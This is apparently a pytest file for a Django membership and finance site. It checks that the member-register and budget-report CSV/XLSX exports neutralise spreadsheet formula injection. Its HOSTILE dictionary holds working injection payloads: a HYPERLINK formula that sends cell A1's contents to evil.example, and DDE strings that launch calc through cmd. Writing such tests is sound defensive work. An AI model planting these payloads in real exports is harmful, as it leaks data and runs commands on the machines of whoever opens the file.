"""Issue 15.7: no CSV or XLSX the site hands out carries a live formula.

Each leading character a spreadsheet reads as a formula (= + - @, and a tab or carriage
return before one) is tried in each export: the register (CSV and XLSX, admin action)
and the year's budget report (CSV and XLSX). Numbers stay numbers.
"""

import csv
import datetime
import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from finance.models import BudgetLine
from finance.selectors import budget_summary
from finance.services import booking_add
from members.spreadsheets import spreadsheet_cell
from tests.members.factories import MemberFactory

pytestmark = pytest.mark.django_db

HOSTILE = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


def csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode())) for cell in row]


def xlsx_cells(content: bytes) -> list[openpyxl.cell.Cell]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def assert_no_formula(cells_text: list[str], hostile: str, *, xml=False):
    if xml:  # XML reads a stored carriage return back as a line feed
        cells_text = [text.replace("\r", "\n") for text in cells_text]
        hostile = hostile.replace("\r", "\n")
    assert hostile not in cells_text, "the hostile text reached the file unchanged"
    assert "'" + hostile in cells_text
    for text in cells_text:
        assert not text.startswith(("=", "+", "-", "@", "\t", "\r", "\n")), repr(text)


def test_spreadsheet_cell_leaves_numbers_and_plain_text_alone():
    assert spreadsheet_cell(Decimal("-12.50")) == Decimal("-12.50")
    assert spreadsheet_cell(-3) == -3
    assert spreadsheet_cell("Jansen") == "Jansen"
    assert spreadsheet_cell("a=b") == "a=b"
    assert spreadsheet_cell("") == ""
    assert spreadsheet_cell(None) is None


@pytest.mark.parametrize("lead", HOSTILE)
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_register_export_neutralises_formulas(secretariat_client, fmt, lead):
    hostile = HOSTILE[lead]
    member = MemberFactory(first_name=hostile, last_name="Jansen", street_address=hostile)
    response = secretariat_client.post(
        "/admin/members/member/", {"action": f"export_{fmt}", "_selected_action": [member.pk]}
    )
    assert response.status_code == 200
    if fmt == "csv":
        assert_no_formula(csv_cells(response.content), hostile)
    else:
        cells = xlsx_cells(response.content)
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
        texts = [cell.value for cell in cells if isinstance(cell.value, str)]
        assert_no_formula(texts, hostile, xml=True)
        # The term is still a number in the spreadsheet, not text.
        assert 4 in [cell.value for cell in cells]


def _overspent_line(name: str) -> BudgetLine:
    """The 2021 expense line renamed, with more booked on it than budgeted."""
    figures = next(f for f in budget_summary(year=2021).lines if f.line.kind == "expenses")
    line = figures.line
    BudgetLine.objects.filter(pk=line.pk).update(name=name)
    booking_add(
        line=line, date=datetime.date(2021, 6, 1), amount=figures.budget + Decimal("100.00"),
        description="Te veel", by=None,
    )  # fmt: skip
    return line


@pytest.mark.parametrize("lead", HOSTILE)
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_budget_report_neutralises_formulas_and_keeps_negative_amounts_numbers(
    secretariat_client, fmt, lead
):
    hostile = HOSTILE[lead]
    _overspent_line(hostile)
    response = secretariat_client.get(reverse(f"finance:report-{fmt}", kwargs={"year": 2021}))
    assert response.status_code == 200
    if fmt == "csv":
        cells = csv_cells(response.content)
        # A negative amount is a plain number, not prefixed text.
        assert "-100.00" in cells
        assert_no_formula([cell for cell in cells if cell != "-100.00"], hostile)
    else:
        cells = xlsx_cells(response.content)
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
        assert -100 in [cell.value for cell in cells if cell.data_type == "n"]
        texts = [cell.value for cell in cells if isinstance(cell.value, str)]
        assert_no_formula(texts, hostile, xml=True)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_downloads_of_personal_data_are_never_stored_in_a_cache(secretariat_client, fmt):
    member = MemberFactory()
    response = secretariat_client.post(
        "/admin/members/member/", {"action": f"export_{fmt}", "_selected_action": [member.pk]}
    )
    assert "no-store" in response["Cache-Control"]
    assert 'attachment; filename="register-' in response["Content-Disposition"]
